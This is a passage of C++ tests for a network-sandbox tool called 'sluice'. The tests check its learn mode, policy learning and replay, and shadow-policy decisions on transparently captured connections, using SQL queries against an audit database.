  EXPECT_EQ(r["network"]["denied"], attempts) << r["network"].dump();
  EXPECT_EQ(r["network"]["denials"].size(), 1000u);  // the receipt keeps the first 1000
  EXPECT_EQ(arrived("udp 53"), 0);
  EXPECT_TRUE(receiptMatchesSchema());
}

// Every proxy variable removed, so only transparent capture carries the traffic.
constexpr const char* kNoProxyVariables =
    "unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY all_proxy ALL_PROXY no_proxy NO_PROXY; ";

// `sluice run --learn` under transparent capture: the connections to port 2223 (no rule allows
// it; the nearest rules, with the address in their cidrs and allow_private, would at 2222) go
// through as would_deny, by name and by address; the deny rule still refuses its names. The
// policy learned from the run passes check and replays as deny->allow (learn mode) lines, no
// allow->deny.
TEST_F(TransparentRun, LearnModeLetsRefusedRedirectedConnectionsThroughAndRoundTrips) {
  REQUIRE_SANDBOX();
  auto r = run(std::string("/bin/sh -c '") + kNoProxyVariables +
                   "python3 /input/in/raw.py; node /input/in/get.js'",
               "policy.yaml", "--learn");
  const std::string out = r["stdout"]["text"];
  const std::string banner = "banner=SSH-2.0-sluice-test reply=got hello";
  EXPECT_NE(out.find("other-port-by-name " + banner), std::string::npos) << out << r.dump();
  EXPECT_NE(out.find("other-port-by-address " + banner), std::string::npos) << out;
  EXPECT_NE(out.find("node-by-name 200 hello from upstream"), std::string::npos) << out;
  EXPECT_EQ(out.find("node-denied-name 200"), std::string::npos) << out;  // no-evil still denies
  EXPECT_EQ(arrived("tcp 2223"), 2);
  EXPECT_EQ(r.value("mode", std::string()), "learn") << r.dump(1);
  EXPECT_EQ(r["network"].value("would_deny", 0), 2) << r.dump(1);
  const std::string exec = r["execution_id"];
  ASSERT_FALSE(exec.empty());
  const std::string in_exec = " WHERE execution_id = '" + exec + "'";
  EXPECT_EQ(count("SELECT count(*) FROM connections" + in_exec +
                  " AND kind = 'transparent' AND port = 2223 AND decision = 'would_deny'"
                  " AND reason = 'port_not_allowed'"),
            2);
  EXPECT_EQ(count("SELECT count(*) FROM dns_queries" + in_exec +
                  " AND name = 'nothing.evil.test' AND decision = 'allow'"),
            0);
  auto [lrc, learned] = sh(std::string(SLUICE_BINARY) + " policy learn --db " + db() +
                           " --execution " + exec + " 2>&1");
  ASSERT_EQ(lrc, 0) << learned;
  std::ofstream(dir_ / "learned.yaml") << learned;
  auto [crc, checked] =
      sh(std::string(SLUICE_BINARY) + " policy check " + (dir_ / "learned.yaml").string());
  EXPECT_EQ(crc, 0) << checked << learned;
  EXPECT_EQ(checked.find("warning"), std::string::npos) << checked;
  auto [rrc, back] = replay(exec, "learned.yaml");
  EXPECT_EQ(rrc, 1) << back.dump(1);
  EXPECT_EQ(back["counts"]["allow_to_deny"], 0) << back.dump(1) << learned;
  EXPECT_GE(back["counts"]["deny_to_allow"].get<int>(), 2) << back.dump(1);
  for (const auto& d : back["differences"]) {
    if (d["change"] == "deny->allow") {
      EXPECT_NE(d.value("note", std::string()).find("learn mode"), std::string::npos) << d.dump();
    }
  }
}

// `--shadow-policy` under transparent capture: the candidate differs from the live policy only
// in web's cidrs, so the shadow disagrees only where the address is decided: the redirected
// connection to web.allowed.test (its DNS answer, decided by name, agrees). Every redirected
// connection, DNS answer and blocked attempt is stamped; the traffic is the live policy's.
TEST_F(TransparentRun, AShadowPolicyIsDecidedAtTheAddressOfRedirectedConnections) {
  REQUIRE_SANDBOX();
  std::string candidate = slurp(dir_ / "policy.yaml");
  const std::string web = "hosts: [web.allowed.test], cidrs: [\"10.231.0.2/32\"]";
  const auto at = candidate.find(web);
  ASSERT_NE(at, std::string::npos) << candidate;
  candidate.replace(at, web.size(), "hosts: [web.allowed.test], cidrs: [\"10.99.0.1/32\"]");
  std::ofstream(dir_ / "candidate.yaml") << candidate;
  auto r = run(std::string("/bin/sh -c '") + kNoProxyVariables +
                   "node /input/in/get.js; python3 /input/in/blocked.py'",
               "policy.yaml", "--shadow-policy " + (dir_ / "candidate.yaml").string());
  const std::string out = r["stdout"]["text"];
  EXPECT_NE(out.find("node-by-name 200 hello from upstream"), std::string::npos) << out;
  const std::string exec = r["execution_id"];
  ASSERT_FALSE(exec.empty()) << r.dump();
  const std::string in_exec = " WHERE execution_id = '" + exec + "'";
  EXPECT_EQ(count("SELECT count(*) FROM connections" + in_exec + " AND shadow_decision IS NULL"),
            0);
  EXPECT_EQ(count("SELECT count(*) FROM dns_queries" + in_exec + " AND shadow_decision IS NULL"),
            0);
  EXPECT_GT(count("SELECT count(*) FROM connections" + in_exec +
                  " AND kind = 'blocked' AND shadow_decision = 'deny'"),
            0);
  auto [rc, diff] = sh(std::string(SLUICE_BINARY) + " audit query --db " + db() + " --execution " +
                       exec + " --shadow-diff --format json 2>&1");
  ASSERT_EQ(rc, 0) << diff;
  json rows = json::parse(diff, nullptr, false);
  ASSERT_TRUE(rows.is_array()) << diff;
  ASSERT_EQ(rows.size(), 1u) << diff;
  EXPECT_EQ(rows[0]["type"], "connection");
  EXPECT_EQ(rows[0]["host"], "web.allowed.test");
  EXPECT_EQ(rows[0]["decision"], "allow");
  EXPECT_EQ(rows[0]["shadow_decision"], "deny");
  EXPECT_EQ(rows[0]["shadow_rule"], "web");
}

}  // namespace
